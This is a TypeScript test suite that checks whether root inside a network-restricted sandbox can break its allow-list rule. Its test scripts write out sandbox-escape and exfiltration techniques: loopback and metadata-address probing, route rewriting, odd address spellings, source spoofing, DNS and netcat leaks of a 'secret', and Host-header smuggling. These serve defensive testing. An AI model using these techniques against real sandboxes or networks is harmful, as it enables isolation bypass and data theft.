/** What root in a box tries to get to where its rules do not let it, packet by packet. */
import assert from 'node:assert/strict';
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { createServer, type Server } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { HOST_ALIAS } from '../../src/network/addresses.ts';
import { NameServer } from '../network/name-server.ts';
import { inNamespace, servers } from '../network/namespace.ts';
import { forEachEngine, sharedBox, shell } from './fixture.ts';
import { copyProgram } from './host-programs.ts';

/** Ports of the host's loopback that a scan would find. */
const PORTS = [22, 80, 5432, 6379, 8080];

if (inNamespace(import.meta.filename)) {
  const names = new NameServer({ 'api.example': [servers.one], 'other.example': [servers.two] });
  const running: Server[] = [];
  const udp: Socket[] = [];
  const reached: string[] = [];

  before(async () => {
    await names.listen();
    const listen = (port: number, address: string) => {
      const server = createServer((socket) => {
        reached.push(`tcp ${address}:${port}`);
        socket.on('error', () => undefined);
        socket.end('you are in\n');
      });
      running.push(server.listen(port, address));
    };
    for (const port of PORTS) listen(port, '127.0.0.1');
    listen(80, '::1');
    listen(80, servers.one);
    listen(80, servers.two);
    listen(80, servers.v6);
    listen(80, servers.private);
    for (const address of ['127.0.0.1', servers.two]) {
      const socket = createSocket('udp4');
      socket.on('message', () => reached.push(`udp ${address}`));
      socket.bind(53, address);
      udp.push(socket);
      await once(socket, 'listening');
    }
    await Promise.all(running.map((server) => server.listening || once(server, 'listening')));
  });
  after(async () => {
    for (const server of running) server.close();
    for (const socket of udp) socket.close();
    await names[Symbol.asyncDispose]();
  });

  forEachEngine((engine) => {
    describe('root in a box with a rule for one name', () => {
      const box = sharedBox(engine, {
        network: { mode: 'enabled', allowNet: ['api.example:80'] },
      });
      before(async () => {
        await shell(box(), 'wget -O- http://169.254.1.1/');
        await copyProgram(box(), '/usr/bin/curl');
      });
      /** Runs it; what was reached meanwhile. */
      const attempt = async (script: string): Promise<string[]> => {
        reached.length = 0;
        await shell(box(), script);
        return [...reached];
      };

      it('finds nothing on the loopback of the host, by any of its names', async () => {
        const aliases = [HOST_ALIAS.v4, '192.168.127.1', '192.168.127.3', '192.168.127.255'];
        const scan = aliases.flatMap((address) =>
          PORTS.map((port) => `nc -w 2 ${address} ${port} </dev/null &`),
        );
        assert.deepEqual(await attempt(`${scan.join('\n')}\nwait`), []);
      });

      it('gets nowhere by loopback addresses that it routes to the host', async () => {
        const script = [
          'ip addr del 127.0.0.1/8 dev lo',
          'ip route add 127.0.0.1/32 dev tun0',
          'echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet',
          ...['127.0.0.1', '0.0.0.0', '169.254.169.254'].map((a) => `nc -w 2 ${a} 80 </dev/null`),
          'ip addr add 127.0.0.1/8 dev lo',
          'ip route del 127.0.0.1/32 dev tun0',
        ];
        assert.deepEqual(await attempt(script.join('\n')), []);
      });

      it('gets nowhere by IPv6, whatever it carries', async () => {
        const targets = [
          ...[servers.v6, 'fd6b:7865:6c69::fe', 'fd6b:7865:6c69::1', '::ffff:203.0.113.20'],
          ...['64:ff9b::203.0.113.20', '2002:cb00:7114::1', 'fe80::1', '::ffff:127.0.0.1'],
        ];
        const script = targets.map((address) => `curl -sm 2 'http://[${address}]/'`).join('\n');
        const found = await attempt(script);
        assert.deepEqual(found, []);
      });

      it('gets nowhere by other spellings of addresses', async () => {
        const spelt = [
          '3405803796',
          '0xcb007114',
          '0313.0.0161.024',
          '203.0.28948',
          '203.0.113.20.',
        ];
        const script = spelt.map((address) => `curl -sm 2 http://${address}/`).join('\n');
        assert.deepEqual(await attempt(script), []);
      });

      it('gets nowhere by a source address of its choice', async () => {
        const script = [
          `ip addr add ${servers.two}/32 dev tun0`,
          'ip addr add 127.0.0.9/32 dev tun0',
          `curl -sm 2 --interface 127.0.0.9 http://${servers.one}/`,
          `curl -sm 2 --interface ${servers.two} http://${servers.private}/`,
          `ip addr del ${servers.two}/32 dev tun0`,
          'ip addr del 127.0.0.9/32 dev tun0',
        ];
        assert.deepEqual(await attempt(script.join('\n')), []);
      });

      it('gets no question out to a server of its choice, by UDP or TCP', async () => {
        const before = names.asked.length;
        const targets = [servers.two, servers.names, HOST_ALIAS.v4, '127.0.0.1'];
        const script = targets.flatMap((address) => [
          `timeout 1 nslookup secret.other.example ${address}`,
          `echo secret | nc -w 1 ${address} 53`,
          `echo secret | nc -u -w 1 ${address} 53`,
        ]);
        const found = await attempt(script.join('\n'));
        assert.deepEqual(found, []);
        assert.equal(names.asked.length, before);
      });

      it('gets nowhere by an allowed address for another port or another host', async () => {
        const script = [
          'nslookup api.example',
          `curl -sm 2 http://${servers.one}:8080/`,
          `curl -sm 2 http://${servers.one}/`,
          `curl -sm 2 -H 'Host: other.example' http://api.example/`,
          `curl -sm 2 --request-target http://other.example/ http://api.example/`,
          `curl -sm 2 -H 'Content-Type: application/dns-message' --data x http://${servers.two}/dns-query`,
        ];
        // A connection to the allowed port is made; nothing is said on it.
        const found = new Set(await attempt(script.join('\n')));
        found.delete(`tcp ${servers.one}:80`);
        assert.deepEqual([...found], []);
      });

      it('still reaches what it may', async () => {
        const { stdout } = await shell(
          box(),
          'nslookup api.example >/dev/null; nc api.example 80 </dev/null',
        );
        assert.equal(stdout, 'you are in\n');
      });
    });
  });
}
